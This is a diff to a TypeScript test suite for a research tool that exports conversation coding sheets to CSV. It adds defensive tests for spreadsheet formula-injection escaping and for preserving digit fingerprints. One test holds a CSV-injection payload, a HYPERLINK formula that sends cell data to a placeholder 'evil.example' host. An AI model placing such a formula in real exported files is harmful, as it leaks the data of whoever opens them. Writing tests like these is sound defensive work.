@@ -44,7 +44,7 @@ describe("colloquy sheet", () => {
     // System, reasoning and empty turns are not on the sheet (as for the machine coders).
     expect(rows.map((r) => r.turn)).toEqual(["t0001", "t0002", "t0003", "t0005", "t0006", "t0007", "t0009", "t0010"]);
     const row = rows.find((r) => r.turn === "t0005")!;
-    expect(row).toMatchObject({ index: "5", speaker: "Bot", speaker_kind: "ai", text: s.turns[5].text, fingerprint: turnFingerprint(s.turns[5]), code_alice: "", code_bob: "" });
+    expect(row).toMatchObject({ index: "5", speaker: "Bot", speaker_kind: "ai", text: s.turns[5].text, fingerprint: `'${turnFingerprint(s.turns[5])}`, code_alice: "", code_bob: "" });
     // Context is every neighbouring turn, as the LLM coder sees it, with its type when not a message.
     expect(row.before_1).toBe("Bot [reasoning]: private: they want to save money");
     expect(row.before_2).toBe(`Ben: ${s.turns[3].text}`);
@@ -109,6 +109,84 @@ describe("colloquy sheet", () => {
     expect(run.stderr).toContain(`${sample}:2: turn ${drawn.rows[0].session}/${drawn.rows[0].turn} has changed since the sample was drawn`);
     expect(run.stderr).toContain(`${sample}:3: session ${drawn.rows[1].session} has no turn "t0999"`);
     expect((await readSheet(out)).rows.map((r) => r.turn)).toEqual(drawn.rows.slice(2).map((r) => r.turn));
+  });
+});
+
+describe("coding sheets opened in a spreadsheet", () => {
+  it("escapes text, context and speaker cells that would run as formulas; session files and export keep the words", async () => {
+    const [session] = await loadSessions(study, ["control-1"]);
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    session.turns[1].text = formula; // Ana's turn
+    session.turns[2].text = "-5 is what we have left"; // Bot
+    session.turns[3].text = "\tindented"; // Ben
+    session.participants.find((p) => p.id === "ana")!.name = "@Ana";
+    await saveSession(study, session);
+    const out = join(dir, "sheet.csv");
+    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", "control-1", "--coders", "alice", "--excel", "--out", out])).code).toBe(0);
+    const sheet = await readSheet(out);
+    const row = (turn: string) => sheet.rows.find((r) => r.turn === turn)!;
+    expect(row("t0001")).toMatchObject({ speaker: "'@Ana", text: `'${formula}` });
+    expect(row("t0002")).toMatchObject({ speaker: "Bot", text: "'-5 is what we have left", before_1: `'@Ana: ${formula}` });
+    expect(row("t0003")).toMatchObject({ text: "'\tindented", before_1: "Bot: -5 is what we have left" });
+    // No display cell starts a formula; an ordinary turn is untouched.
+    for (const r of sheet.rows) for (const f of ["speaker", "before_2", "before_1", "text", "after_1", "after_2"]) expect(r[f]).not.toMatch(/^[=+\-@\t\r]/);
+    expect(row("t0005").text).toBe(session.turns[5].text);
+    const legend = await readSheet(join(dir, "sheet.legend.csv"));
+    expect(legend.rows[0].definition).toContain("starts with an added ' so the spreadsheet shows it as text");
+
+    // codes import never reads those cells: the filled sheet imports, codes on the right turns.
+    sheet.rows.forEach((r) => (r.code_alice = "agrees"));
+    await writeSheet(out, sheet, { bom: true });
+    const run = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"]);
+    expect(run.stderr).toBe("");
+    expect(run.code).toBe(0);
+    const records = await readCodes(study, "bales-ipa", "human:alice");
+    expect(records).toHaveLength(CODEABLE_PER_SESSION);
+    expect(checkCodeCurrency(records, await loadSessions(study)).withheld).toEqual([]);
+
+    // The session and the export keep the words verbatim.
+    expect((await loadSessions(study, ["control-1"]))[0].turns[1].text).toBe(formula);
+    const exported = join(dir, "turns.csv");
+    expect((await runCli(["export", study, "--format", "csv", "--out", exported])).code).toBe(0);
+    const turns = (await readSheet(exported)).rows.filter((r) => r.session === "control-1");
+    expect(turns.find((r) => r.turn === "t0001")!.text).toBe(formula);
+    expect(turns.find((r) => r.turn === "t0003")!.text).toBe("\tindented");
+  });
+
+  it("an all-digit fingerprint is written as text ('…) and round-trips through codes import, with or without the '", async () => {
+    const [session] = await loadSessions(study, ["control-1"]);
+    // Words whose fingerprint is all digits: Excel would read 1234567890123456 as 1.23457E+15.
+    let n = 0;
+    while (!/^\d{16}$/.test(turnFingerprint({ speaker: "ana", text: `Point number ${n}.` }))) n++;
+    session.turns[1].text = `Point number ${n}.`;
+    await saveSession(study, session);
+    const digits = turnFingerprint(session.turns[1]);
+    const out = join(dir, "sheet.csv");
+    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", "control-1", "--coders", "alice", "--excel", "--out", out])).code).toBe(0);
+    const sheet = await readSheet(out);
+    expect(sheet.rows.find((r) => r.turn === "t0001")!.fingerprint).toBe(`'${digits}`);
+    expect(sheet.rows.every((r) => r.fingerprint.startsWith("'"))).toBe(true);
+
+    // Excel keeps a leading ' as part of the text and saves it back: imported as is.
+    sheet.rows.forEach((r) => (r.code_alice = "agrees"));
+    await writeSheet(out, sheet, { delimiter: ";", bom: true, sepLine: true });
+    const run = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
+    expect(run.code).toBe(0);
+    expect(JSON.parse(run.stdout)).toMatchObject({ stored: CODEABLE_PER_SESSION, problems: [] });
+    expect((await readCodes(study, "bales-ipa", "human:alice")).find((r) => r.turn === "t0001")!.fingerprint).toBe(digits);
+
+    // A program that drops the ' (and sheets made before it was written) import the same.
+    sheet.rows.forEach((r) => (r.fingerprint = r.fingerprint.slice(1)));
+    await writeSheet(out, sheet);
+    const bare = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
+    expect(bare.code).toBe(0);
+    expect(JSON.parse(bare.stdout)).toMatchObject({ stored: CODEABLE_PER_SESSION, problems: [] });
+
+    // A fingerprint that no longer matches is still refused, prefix or not.
+    sheet.rows[1].fingerprint = "'0000000000000000";
+    await writeSheet(out, sheet);
+    const changed = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
+    expect(JSON.parse(changed.stdout)).toMatchObject({ refused: { "turn-changed": 1 } });
   });
 });
 
